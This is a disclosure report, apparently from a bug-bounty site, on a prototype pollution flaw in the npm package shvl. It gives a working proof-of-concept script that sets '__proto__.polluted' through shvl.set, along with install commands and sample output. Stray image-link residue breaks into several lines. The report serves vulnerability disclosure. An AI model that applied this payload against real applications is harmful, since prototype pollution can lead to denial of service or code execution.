Prototype Pollution in robinvdvleuten/shvl


Reported on

Jan 6th 2021


shvl is vulnerable to Prototype Pollution. This package fails to restrict access to prototypes of objects, allowing for modification of prototype behavior using a proto payload, which may result in Sensitive Information Disclosure/Denial of Service(DoS)/Remote Code Execution.

Proof of Concept

  1.Create the following PoC file:
// poc.js
var shvl = require("shvl")
let obj = {}
console.log("Before : " + {}.polluted);
shvl.set(obj, '__proto__.polluted', 'Yes! Its Polluted');
console.log("After : " + {}.polluted);

  1. Execute the following commands in another terminal:
npm i shvl # Install affected module
node poc.js #  Run the PoC
  1.Check the Output:
Before : undefined
After :Yes! Its Polluted


to join this conversation